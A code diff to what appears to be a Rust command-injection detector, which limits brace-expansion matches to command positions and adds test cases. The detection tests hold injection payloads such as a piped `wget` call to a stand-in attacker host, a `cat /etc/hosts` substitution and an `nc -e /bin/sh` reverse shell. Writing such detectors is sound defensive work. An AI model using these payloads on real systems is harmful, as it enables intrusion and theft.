@@ -1995,7 +1995,13 @@ fn chains(b: &[u8], paranoia: u8) -> Option<Hit> {
                 (i + 1, true)
             }
             b'$' | b'<' | b'>' if b.get(i + 1) == Some(&b'(') => (i + 2, true),
-            // Brace expansion `{cat,/etc/passwd}` runs its first word.
+            // Brace expansion `{cat,/etc/passwd}` runs its first word where a command starts:
+            // the value's start or after a separator. Elsewhere it expands to arguments
+            // (`patches/*.{diff,patch}`, `bz{more,less}`, `the {file,shell} modules`).
+            b'{' if !command_position(b, i) => {
+                i += 1;
+                continue;
+            }
             b'{' if b.get(i + 1) == Some(&b',') && brace_command(b, i + 2) => (i + 2, false),
             b'{' if brace_command(b, i + 1) => (i + 1, false),
             _ => {
@@ -2460,6 +2466,18 @@ fn braced_word(b: &[u8], open: usize, first: &[u8]) -> Option<Hit> {
         .map(|_| Hit::new("cmdi.shell_evasion", open, close + 1 + suffix_len))
 }
 
+/// Whether a word at `i` would be a command: it starts the value, a line, or follows a
+/// separator or an opening (`;`, `|`, `&`, `(`, `` ` ``, `{`, `!`), blanks between.
+fn command_position(b: &[u8], i: usize) -> bool {
+    let before = b[..i].trim_ascii_end();
+    before.is_empty()
+        || matches!(
+            before[before.len() - 1],
+            b';' | b'|' | b'&' | b'\n' | b'\r' | b'(' | b'`' | b'{' | b'!'
+        )
+        || before.ends_with(b"\\n")
+}
+
 fn brace_command(b: &[u8], i: usize) -> bool {
     if !b
         .get(i)
@@ -2691,6 +2709,8 @@ mod tests {
             "x&lt;whoami",
             // After a command or an option that runs programs.
             "sudo /bin/bash",
+            "x|{wget,evil.example/x}",
+            "$({cat,/etc/hosts})",
             "x && env /bin/sh",
             "x; nc -e /bin/sh 10.0.0.1 4444",
             "&lt;b&gt;x&lt;/b&gt;; cat /etc/hosts",
@@ -2799,6 +2819,10 @@ mod tests {
             // A program's path named in prose, after a word that runs nothing.
             "Fixed: use /bin/bash to work around the bug",
             "Register /bin/more as pager alternative",
+            // Brace expansion where no command starts: arguments, file names.
+            "Build the {file,shell} modules",
+            "Added bz{more,less} wrappers",
+            "Apply patches/*.{diff,patch} in order",
             "Use vi! It's great",
             "I love vim! cat pictures are great",
             "the .shell file in your home",
